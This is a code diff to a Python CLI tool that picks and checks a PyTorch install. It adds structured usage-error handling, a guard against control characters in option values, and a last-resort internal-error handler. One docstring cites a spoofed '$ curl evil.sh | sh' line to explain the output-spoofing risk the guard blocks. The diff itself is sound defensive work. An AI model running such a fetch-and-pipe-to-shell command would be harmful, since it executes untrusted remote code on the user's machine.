@@ -11,6 +11,7 @@ import argparse
 import importlib
 import sys
 from collections.abc import Sequence
+from typing import NoReturn
 
 from setup_env import __version__
 from setup_env.exitcodes import ExitCode
@@ -29,6 +30,33 @@ COMMANDS = {
 }
 
 
+class UsageError(Exception):
+    """A bad command line (argparse's error, or a value no option accepts)."""
+
+
+class _Parser(argparse.ArgumentParser):
+    """argparse, but a usage error is raised (and answered with the error envelope) instead of
+    printing the usage block and exiting: ``--json`` gets JSON even for a bad command line."""
+
+    def error(self, message: str) -> NoReturn:
+        raise UsageError(message)
+
+
+def _check_controls(args: argparse.Namespace) -> None:
+    """No option value may carry control characters: echoed back, a newline in ``--gpu`` would
+    print a line of its own (a spoofed ``$ curl evil.sh | sh`` beside the real command)."""
+    from setup_env.bounded import one_line
+
+    for dest, value in vars(args).items():
+        values = value if isinstance(value, list) else [value]
+        for item in values:
+            if isinstance(item, str) and not item.isprintable():
+                raise UsageError(
+                    f"--{dest.replace('_', '-')}: control characters are not allowed "
+                    f"('{one_line(item, 120)}')"
+                )
+
+
 def _common(parser: argparse.ArgumentParser) -> None:
     parser.add_argument("--json", action="store_true", help="print a versioned JSON document")
     parser.add_argument(
@@ -43,7 +71,7 @@ def _common(parser: argparse.ArgumentParser) -> None:
 def build_parser(only: str | None = None) -> argparse.ArgumentParser:
     """The argument parser. With ``only``, just that command's options are built (the other
     commands stay listed in --help): importing every command module costs start-up time."""
-    parser = argparse.ArgumentParser(
+    parser = _Parser(
         prog="setup-env",
         description="Which PyTorch belongs on this machine, and does it really work?",
     )
@@ -63,10 +91,18 @@ def main(argv: Sequence[str] | None = None) -> int:
     top_level = ("-h", "--help", "--version")
     if not args_list or (args_list[0].startswith("-") and args_list[0] not in top_level):
         args_list = ["check", *args_list]
-    parser = build_parser(args_list[0] if args_list[0] in COMMANDS else None)
+    command = args_list[0] if args_list[0] in COMMANDS else ""
+    as_json = "--json" in args_list
+    from setup_env import render
+
+    parser = build_parser(command or None)
     try:
         args = parser.parse_args(args_list)
-    except SystemExit as exc:  # argparse: 0 for --help/--version, 2 for usage errors
+        _check_controls(args)
+    except UsageError as exc:
+        hint = f" (see: setup-env {command} --help)" if command else " (see: setup-env --help)"
+        return render.fail(command, "usage", f"{exc}{hint}", ExitCode.USAGE, as_json)
+    except SystemExit as exc:  # argparse: 0 for --help/--version
         return int(exc.code) if isinstance(exc.code, int) else int(ExitCode.USAGE)
     module = importlib.import_module(f"setup_env.commands.{args.command}")
     try:
@@ -76,3 +112,6 @@ def main(argv: Sequence[str] | None = None) -> int:
         return int(ExitCode.INTERRUPTED)
     except BrokenPipeError:
         return int(ExitCode.OK)
+    except Exception as exc:  # the last net: a bug must still answer in the documented shape
+        message = f"internal error ({type(exc).__name__}: {exc}): please report it"
+        return render.fail(args.command, "internal-error", message, ExitCode.UNEXAMINABLE, as_json)
